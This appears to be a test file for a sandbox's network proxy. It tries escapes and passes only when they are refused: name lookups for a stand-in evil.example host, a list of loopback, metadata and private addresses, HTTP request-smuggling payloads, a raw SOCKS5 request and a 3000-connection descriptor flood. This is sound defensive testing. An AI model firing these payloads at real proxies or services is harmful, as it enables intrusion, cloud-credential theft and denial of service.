// Ways out of the sandbox by its proxy: names that are looked up, addresses that are more than they seem, and its own limits.
import { readdirSync } from 'node:fs'
import { join } from 'node:path'
import type { Attack } from '../../attack.ts'
import { type Escape, escapeRow } from '../sandbox/escapes.ts'
import { put, textOf } from '../sandbox/scene.ts'

const row = (name: string, code: string, more: Partial<Escape>): Attack =>
  escapeRow({ name: `proxy: ${name}`, code, escaped: () => false, ...more })

/** A name is looked up at a name server that hears it: that says something to whoever holds it. */
const lookedUp = (name: string, code: string): Attack =>
  row(`${name} is not looked up`, code, {
    grants: () => ({ hosts: ['api.example', '*.api.example'], denyHosts: ['no.api.example'] }),
    granted: () => ({ hosts: ['*', 'a-secret.api.example:25'] }),
    escaped: (_, { lookups }) => lookups.length > 0,
  })

/** Addresses that a granted name resolves to: this computer, its network, a cloud's metadata. An attempt that is not refused fails the row. */
const leads = (address: string): Attack =>
  row(`a granted name that leads to ${address} is not followed`, `tunnel('api.example:' + scene.port)`, {
    grants: ({ port }) => ({ hosts: [`api.example:${port}`, '*'] }),
    granted: ({ port }) => ({ hosts: [`api.example:${port}`, `${address.includes(':') ? `[${address}]` : address}:${port}`] }),
    names: { 'api.example': [[address]] },
    escaped: (said, { attempts }) => attempts.some((one) => /reached|unreachable|failed|timeout/.test(one)) || / (200|502|504) /.test(said),
  })
const named = (host: string): Attack =>
  row(`${host} is not reached by “any website”`, `tunnel('${host}:80')`, {
    grants: () => ({ hosts: ['*'] }),
    granted: () => ({ hosts: [`${host}:80`, '127.0.0.1:80'] }),
    names: { [host.replace(/\.$/, '')]: [['127.0.0.1']], [host]: [['127.0.0.1']] },
    escaped: (said, { attempts }) => attempts.some((one) => /reached|unreachable|failed|timeout/.test(one)) || / (200|502|504) /.test(said),
  })

export const sandboxProxy: readonly Attack[] = [
  lookedUp('a name of CONNECT that was not granted', `tunnel('a-secret.evil.example:443')`),
  lookedUp(
    'a name of a plain request that was not granted',
    `raw('GET http://a-secret.evil.example/ HTTP/1.1\\r\\nHost: a-secret.evil.example\\r\\n\\r\\n')`,
  ),
  lookedUp(
    'a name of SOCKS that was not granted',
    `const s = net.connect(proxyPort, '127.0.0.1'); let n = 0; s.on('data', () => { if (n++ === 0) { const h = Buffer.from('a-secret.evil.example'); s.write(Buffer.concat([Buffer.from([5,1,0,3,h.length]), h, Buffer.from([1,187])])) } }); s.on('error', say); s.setTimeout(2000, () => s.destroy()); s.write(Buffer.from([5,1,0]))`,
  ),
  lookedUp('a denied name', `tunnel('no.api.example:443')`),
  lookedUp('a granted name at another port', `tunnel('a-secret.api.example:25')`),
  ...[
    '169.254.169.254',
    '100.100.100.200',
    '168.63.129.16',
    '192.0.0.192',
    '100.64.0.1',
    '192.0.0.8',
    '198.18.0.1',
    '0.0.0.0',
    '0.1.2.3',
    '224.0.0.1',
    '240.0.0.1',
    '255.255.255.255',
    '::',
    '::1',
    'fe80::1',
    'fd00:ec2::254',
    'ff02::1',
    '64:ff9b::7f00:1',
    '64:ff9b:1::7f00:1',
    '2002:7f00:1::',
    '::7f00:1',
    '::ffff:0:7f00:1',
    'fec0::1',
    '2001:0:7f00:1::',
  ].map(leads),
  row('the second address of a granted name is not within this computer', `tunnel('api.example:' + scene.port)`, {
    grants: ({ port }) => ({ hosts: [`api.example:${port}`] }),
    granted: ({ port }) => ({ hosts: [`api.example:${port}`, `127.0.0.1:${port}`] }),
    names: { 'api.example': [['203.0.113.1', '127.0.0.1']] },
    escaped: (said) => said.includes('S3CRET'),
  }),
  ...[
    'localhost.',
    'localhost.localdomain',
    'ip6-localhost',
    'ip6-loopback',
    'host.docker.internal',
    'metadata.google.internal',
    'kubernetes.default.svc',
  ].map(named),
  ...['[::1]', '[0:0:0:0:0:0:0:1]', '[::]', '[::1%lo]'].map((host) =>
    row(`${host} is not reached`, `tunnel('${host}:' + scene.port6)`, {
      grants: () => ({ hosts: ['*', 'api.example'] }),
      granted: ({ port6 }) => ({ hosts: [`[::1]:${port6}`, `[::]:${port6}`] }),
      escaped: (said) => said.includes('S3CRET'),
      ...(host.includes('%') && { code: `tunnel('${host}:' + scene.port6); tunnel('[::1]:' + scene.port6)` }),
    }),
  ),
  ...[
    [
      'a length that two headers tell',
      `'POST http://api.example:' + scene.port + '/ HTTP/1.1\\r\\nHost: api.example\\r\\nContent-Length: 4\\r\\nContent-Length: 0\\r\\n\\r\\n'`,
    ],
    [
      'chunks and a length',
      `'POST http://api.example:' + scene.port + '/ HTTP/1.1\\r\\nHost: api.example\\r\\nContent-Length: 4\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\n'`,
    ],
    [
      'chunks that are spelled otherwise',
      `'POST http://api.example:' + scene.port + '/ HTTP/1.1\\r\\nHost: api.example\\r\\nTransfer-Encoding: xchunked\\r\\n\\r\\n0\\r\\n\\r\\n'`,
    ],
    ['lines that end by LF alone', `'GET http://api.example:' + scene.port + '/ HTTP/1.1\\nHost: api.example\\n\\n'`],
    ['a folded header', `'GET http://api.example:' + scene.port + '/ HTTP/1.1\\r\\nHost: api.example\\r\\nX: a\\r\\n b\\r\\n\\r\\n'`],
    [
      'an upgrade',
      `'GET http://api.example:' + scene.port + '/ HTTP/1.1\\r\\nHost: api.example\\r\\nConnection: Upgrade\\r\\nUpgrade: h2c\\r\\n\\r\\n'`,
    ],
  ].map(([name, head]) =>
    row(
      `${name} brings no second request to another host`,
      `raw(${head} + 'GET http://evil.example:' + scene.port + '/ HTTP/1.1\\r\\nHost: evil.example\\r\\n\\r\\n'); setTimeout(() => tunnel('evil.example:' + scene.port), 300)`,
      {
        grants: ({ port }) => ({ hosts: [`api.example:${port}`] }),
        granted: ({ port }) => ({ hosts: [`api.example:${port}`, `evil.example:${port}`, `127.0.0.1:${port}`] }),
        names: { 'api.example': [['127.0.0.1']], 'evil.example': [['127.0.0.1']] },
        escaped: (_, { attempts, lookups }) =>
          lookups.includes('evil.example') || attempts.some((one) => one.startsWith('evil') && one.includes('reached')),
      },
    ),
  ),
  row(
    'three thousand connections of a server do not take this computer’s descriptors',
    `
    const open = []
    for (let n = 0; n < 3000; n++) { const s = net.connect(process.env.HTTP_PROXY ? proxyPort : scene.port, '127.0.0.1'); s.on('error', () => {}); s.on('connect', () => s.write('CONNECT a')); open.push(s) }
    setTimeout(() => { after(() => process.exit()) }, 4000)`,
    {
      meanwhile: ({ elsewhere }) => put(join(elsewhere, 'descriptors'), String(readdirSync('/proc/self/fd').length)),
      escaped: (_, { elsewhere }) => Number(textOf(join(elsewhere, 'descriptors'))) > 1500,
    },
  ),
]
